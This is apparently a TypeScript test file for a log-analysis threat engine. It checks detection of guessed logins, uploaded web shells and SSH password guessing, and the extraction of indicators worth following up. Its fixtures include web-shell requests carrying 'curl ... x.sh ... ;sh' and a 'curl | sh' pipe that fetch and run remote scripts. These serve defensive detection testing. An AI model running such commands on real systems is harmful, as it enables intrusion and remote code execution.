/** What requests of one address mean together, and which of the addresses, links and files are worth following up. */
import { beforeAll, expect, test } from 'vitest';
import { isWorthFollowing } from '../../../server/api/services/worth-following.ts';
import type { ThreatEngine } from '../../../server/engine/threat/engine.ts';
import { never, openThreatEngine } from '../../support/threat-engine.ts';

let engine: ThreatEngine;
beforeAll(async () => {
  engine = await openThreatEngine();
});

const attacker = '185.220.101.47';
let second = 0;
const request = (address: string, line: string, status: number) => {
  second += 7;
  const time = new Date(Date.UTC(2026, 9, 10, 8, 21, second)).toISOString().slice(11, 19);
  return `${address} - - [10/Oct/2026:${time} +0000] "${line} HTTP/1.1" ${status} 512 "-" "Mozilla/5.0"`;
};
const refused = (count: number, address = attacker) =>
  Array.from({ length: count }, () => request(address, 'POST /login', 401));
const visits = ['203.0.113.20', '198.51.100.7', '81.2.69.142'].flatMap((address) => [
  request(address, 'GET /', 200),
  request(address, 'GET /login', 200),
  request(address, 'GET /img/logo.png', 200),
]);
const analyze = (lines: string[]) => engine.methods.analyze({ text: lines.join('\n') }, never);
const titles = async (lines: string[]) =>
  (await analyze(lines)).findings.filter(({ level }) => level === 'critical').map(({ title }) => title);
const worth = async (lines: string[]) =>
  (await analyze(lines)).indicators.filter(isWorthFollowing).map(({ value }) => value);

test('a login let in after refusals of the same address is a compromise, worse than the guessing', async () => {
  const { findings } = await analyze([...visits, ...refused(10), request(attacker, 'POST /login', 302)]);
  expect(findings[0]).toMatchObject({
    title: expect.stringMatching(/^Web login guessed/),
    level: 'critical',
  });
  expect(findings[0]?.lines.at(-1)?.line).toBe(visits.length + 11);
  expect(findings[0]?.subjects.addresses).toEqual([attacker]);
  expect(findings[0]?.excerpts).toHaveLength(3);
  expect(findings[0]?.excerpts.at(-1)).toMatchObject({
    line: visits.length + 11,
    text: expect.stringContaining(' 302 '),
  });
  const [from = 0, to = 0] = findings[0]?.spanMs ?? [];
  expect(to - from).toBe(10 * 7000);
  expect(findings.find(({ ruleId }) => ruleId === 'anomaly-login-page')?.level).toBe('medium');
});

test('few refusals, another address or no login in the end are none', async () => {
  expect(await titles([...refused(3), request(attacker, 'POST /login', 302)])).toEqual([]);
  expect(await titles([...refused(8), request('203.0.113.20', 'POST /login', 302)])).toEqual([]);
  expect(await titles(refused(9))).toEqual([]);
});

test('a script answered where its sender had uploaded is a web shell laid down', async () => {
  const upload = request(attacker, 'POST /admin/upload.php', 200);
  const script = request(attacker, 'GET /uploads/img_0912.php?c=id', 200);
  expect(await titles([...visits, upload, script])).toEqual([expect.stringMatching(/^Web shell laid down/)]);
  expect(await titles([upload, request(attacker, 'GET /uploads/img_0912.jpg', 200)])).toEqual([]);
});

test('visitors are not followed up; the intruder, what it loads and what it laid down are', async () => {
  const shell = '/uploads/img_0912.php?c=curl%20http://185.220.101.47/x.sh%20-o%20/tmp/.x;sh%20/tmp/.x';
  const values = await worth([...visits, ...refused(10), request(attacker, `GET ${shell}`, 200)]);
  expect(values.toSorted()).toEqual(
    ['/tmp/.x', '/uploads/img_0912.php', attacker, `http://${attacker}/x.sh`].toSorted(),
  );
});

test('what a flagged command loads is followed up from reserved ranges as well', async () => {
  expect(await worth(['curl -s http://198.18.7.3/x.sh | sh'])).toContain('http://198.18.7.3/x.sh');
  expect(await worth(['see http://198.18.7.3/notes for the lab'])).toEqual([]);
});

test('a word behind a path is no account', async () => {
  const { indicators } = await analyze(visits);
  expect(indicators.filter(({ type }) => type === 'user')).toEqual([]);
});

test('an address is told once to be blocked', async () => {
  const { recommendedActions } = await analyze([...refused(10), request(attacker, 'POST /login', 302)]);
  expect(recommendedActions.filter((text) => text.startsWith('Block'))).toHaveLength(1);
});

test('a line without a year gives a finding no time', async () => {
  const line = (minute: number) =>
    `Mar  4 09:${minute}:00 web1 sshd[1]: Failed password for root from ${attacker} port 1 ssh2`;
  const { findings } = await analyze(Array.from({ length: 6 }, (_, i) => line(20 + i)));
  expect(findings[0]).toMatchObject({ ruleId: 'anomaly-password-guessing', spanMs: null });
  expect(findings[0]?.excerpts[0]).toEqual({ line: 1, text: line(20).replace('  ', ' ') });
});
